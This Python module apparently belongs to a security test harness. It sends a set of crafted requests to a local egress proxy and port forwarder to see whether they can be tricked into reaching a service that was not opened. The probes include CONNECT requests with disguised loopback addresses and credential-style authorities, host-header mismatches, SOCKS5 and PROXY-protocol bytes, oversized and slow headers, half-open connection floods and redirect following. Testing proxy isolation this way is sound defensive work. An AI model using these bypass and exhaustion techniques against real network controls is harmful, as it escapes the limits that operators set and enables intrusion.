"""Hostile use of the ways out that a node's owner has opened: to get further than where they lead."""

from __future__ import annotations

import os
import socket
from collections.abc import Mapping
from functools import partial
from typing import Any
from urllib.parse import urlsplit

from attacker.calls import drip, judge

_PATIENCE = 20


def _egress(facts: Mapping[str, Any]) -> int:
    if "egress" in facts:
        return int(facts["egress"])
    return urlsplit(os.environ["HTTPS_PROXY"]).port or 0


def _forward(facts: Mapping[str, Any]) -> int:
    if "forward" in facts:
        return int(facts["forward"])
    return int(os.environ["OPEN_GATE_ADDRESS"].rpartition(":")[2])


def _exchange(port: int, data: bytes) -> bytes:
    """What is answered: one head, and what comes behind that of a connection."""
    whole = b""
    with socket.create_connection(("127.0.0.1", port), timeout=_PATIENCE) as connection:
        connection.sendall(data)
        while b"\r\n\r\n" not in whole and (piece := connection.recv(65536)):
            whole += piece
        if whole.startswith(b"HTTP/1.1 200 ") and whole.count(b"\r\n\r\n") == 1:
            whole += connection.recv(64)
    return whole


def _ask(request: str, facts: Mapping[str, Any], *, host: str = "x", after: bytes = b"") -> tuple[bool, str]:
    """With ``{port}`` the service that nobody opened, with ``{open_port}`` the one that is."""
    head = "\r\n".join([request, f"Host: {host}", "", ""]).format(**facts)
    return judge(_exchange(_egress(facts), head.encode("latin-1") + after))


def _connect(target: str, **more: Any) -> partial[tuple[bool, str]]:
    return partial(_ask, f"CONNECT {target} HTTP/1.1", **more)


def _huge_head(facts: Mapping[str, Any]) -> tuple[bool, str]:
    return _ask("CONNECT 127.0.0.1:{open_port} HTTP/1.1\r\nX-A: " + "b" * 17_000, facts)


def _many(port: int, begin: bytes, go_on: bytes) -> tuple[bool, str]:
    """Holds twenty connections, each half said; whether the last one is served nevertheless."""
    held = [socket.create_connection(("127.0.0.1", port), timeout=_PATIENCE) for _ in range(20)]
    try:
        for one in held[:-1]:
            one.sendall(begin)
        held[-1].sendall(begin + go_on)
        heard = held[-1].recv(64)
    finally:
        for one in held:
            one.close()
    return bool(heard), f"heard {heard!r}" if heard else "refused: closed"


def _half_open(facts: Mapping[str, Any]) -> tuple[bool, str]:
    target = f"127.0.0.1:{facts['open_port']}"
    return _many(_egress(facts), b"CONNECT ", f"{target} HTTP/1.1\r\nHost: x\r\n\r\n".encode())


def _other_destination(facts: Mapping[str, Any]) -> tuple[bool, str]:
    """Names another service to a forwarder, in the manner of each kind of proxy."""
    port = facts["port"]
    for words in (
        f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode(),
        f"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode(),
        b"\x05\x01\x00\x05\x01\x00\x01\x7f\x00\x00\x01" + int(port).to_bytes(2, "big"),
        f"PROXY TCP4 127.0.0.1 127.0.0.1 {port} {port}\r\n".encode(),
    ):
        heard = _exchange(_forward(facts), words)
        if b"canary" in heard:
            return True, f"{words!r}: {heard!r}"
    return False, f"refused: heard {heard!r}"


def _follow_redirect(facts: Mapping[str, Any]) -> tuple[bool, str]:
    """The open service sends its callers on to another one, as a breached one may."""
    said = _exchange(_forward(facts), b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").decode()
    place = urlsplit(next(line for line in said.splitlines() if line.startswith("Location: ")).split()[1])
    with socket.create_connection((place.hostname or "", place.port or 0), timeout=5) as connection:
        heard = connection.recv(64)
    return heard == b"canary", f"heard {heard!r}"


RELAYS = {
    "egress-other-port": _connect("127.0.0.1:{port}"),
    "egress-other-address": _connect("{address}:{port}"),
    "egress-name-inside": _connect("localhost:{open_port}"),
    "egress-subdomain": _connect("what-it-read.localhost:{open_port}"),
    "egress-mapped": _connect("[::ffff:127.0.0.1]:{port}"),
    "egress-number": _connect("2130706433:{port}"),
    "egress-credentials": _connect("127.0.0.1:{open_port}@127.0.0.1:{port}"),
    "egress-host-header": _connect("127.0.0.1:{port}", host="127.0.0.1:{open_port}"),
    "egress-page": partial(_ask, "GET http://127.0.0.1:{open_port}/ HTTP/1.1"),
    "egress-early": _connect("127.0.0.1:{open_port}", after=b"\x16\x03\x01"),
    "egress-huge-head": _huge_head,
    "egress-slow-head": lambda facts: drip(_egress(facts), b"CONNECT 127.0.0.1"),
    "egress-half-open": _half_open,
    "forward-elsewhere": _other_destination,
    "forward-redirect": _follow_redirect,
    "forward-many": lambda facts: _many(_forward(facts), b"G", b"ET"),
}
